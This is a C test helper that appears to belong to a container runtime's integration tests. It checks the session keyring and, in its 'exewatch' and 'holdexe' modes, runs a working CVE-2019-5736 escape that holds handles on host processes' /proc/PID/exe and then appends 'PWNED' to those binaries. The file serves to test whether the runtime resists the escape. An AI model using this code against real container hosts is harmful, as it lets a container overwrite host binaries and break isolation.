/*
 * A static helper the attack tests (test/integration/boundary.test.ts) copy into a container's rootfs:
 * busybox has neither keyctl nor a way to hold an fd across a loop. Built with `gcc -static`.
 *
 *   probe keyring          print the serial of the session keyring (@s) and its description
 *   probe exewatch DIR     the CVE-2019-5736 attacker: until DIR/stop exists, open /proc/<pid>/exe
 *                          (O_PATH) of every process that appears and is not one of the container's
 *                          own programs (busybox, this probe), then, once the runtime is gone
 *                          (no ETXTBSY), reopen each for writing and append to it. Writes
 *                          "seen N opened M wrote W" to DIR/result.
 *   probe holdexe PID DIR  the same against one process that waits (a created container's init):
 *                          open /proc/PID/exe (O_PATH), then, once DIR/stop exists, append to it.
 *                          Writes "open failed: ERRNO" or "opened, wrote W" to DIR/result.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEYCTL_GET_KEYRING_ID 0
#define KEYCTL_DESCRIBE 6
#define KEY_SPEC_SESSION_KEYRING -3

static int keyring(void) {
  long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  if (id < 0) {
    printf("error %d\n", errno);
    return 1;
  }
  char desc[256] = "";
  long n = syscall(SYS_keyctl, KEYCTL_DESCRIBE, id, desc, sizeof desc - 1);
  printf("%ld %s\n", id, n > 0 ? desc : "?");
  return 0;
}

#define MAXFD 256
static int exewatch(const char *dir) {
  char stop[4096], result[4096];
  snprintf(stop, sizeof stop, "%s/stop", dir);
  snprintf(result, sizeof result, "%s/result", dir);
  static char seen[1 << 22];
  int fds[MAXFD], nfd = 0, nseen = 0;
  pid_t self = getpid();
  /* The container's own programs (this probe, busybox) are not the target: anything else is. */
  struct stat me, bb;
  if (stat("/proc/self/exe", &me) < 0 || stat("/bin/busybox", &bb) < 0) return 2;
  while (access(stop, F_OK) != 0) {
    DIR *d = opendir("/proc");
    if (!d) return 2;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self || pid >= (int)sizeof seen) continue;
      char exe[64];
      snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
      int fd = open(exe, O_PATH | O_CLOEXEC);
      if (fd < 0) {
        if (!seen[pid]) {
          seen[pid] = 1;
          nseen++;
        }
        continue;
      }
      struct stat st;
      int own = fstat(fd, &st) == 0 && ((st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
                                        (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino));
      if (!own && nfd < MAXFD) {
        fds[nfd++] = fd;
        if (!seen[pid]) {
          seen[pid] = 1;
          nseen++;
        }
      } else {
        close(fd);
      }
    }
    closedir(d);
  }
  int wrote = 0;
  for (int i = 0; i < nfd; i++) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
    int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w >= 0 && write(w, "PWNED", 5) == 5) wrote++;
    if (w >= 0) close(w);
  }
  FILE *f = fopen(result, "w");
  if (!f) return 3;
  fprintf(f, "seen %d opened %d wrote %d\n", nseen, nfd, wrote);
  fclose(f);
  return 0;
}

static int holdexe(const char *pid, const char *dir) {
  char exe[64], stop[4096], result[4096];
  snprintf(exe, sizeof exe, "/proc/%s/exe", pid);
  snprintf(stop, sizeof stop, "%s/stop", dir);
  snprintf(result, sizeof result, "%s/result", dir);
  FILE *f;
  int fd = open(exe, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    int e = errno;
    if (!(f = fopen(result, "w"))) return 3;
    fprintf(f, "open failed: %s\n", strerror(e));
    return fclose(f);
  }
  while (access(stop, F_OK) != 0) usleep(10000);
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC), wrote = w >= 0 && write(w, "PWNED", 5) == 5;
  if (!(f = fopen(result, "w"))) return 3;
  fprintf(f, "opened, wrote %d\n", wrote);
  return fclose(f);
}

int main(int argc, char **argv) {
  if (argc >= 2 && !strcmp(argv[1], "keyring")) return keyring();
  if (argc >= 3 && !strcmp(argv[1], "exewatch")) return exewatch(argv[2]);
  if (argc >= 4 && !strcmp(argv[1], "holdexe")) return holdexe(argv[2], argv[3]);
  fprintf(stderr, "usage: probe keyring | exewatch DIR | holdexe PID DIR\n");
  return 64;
}
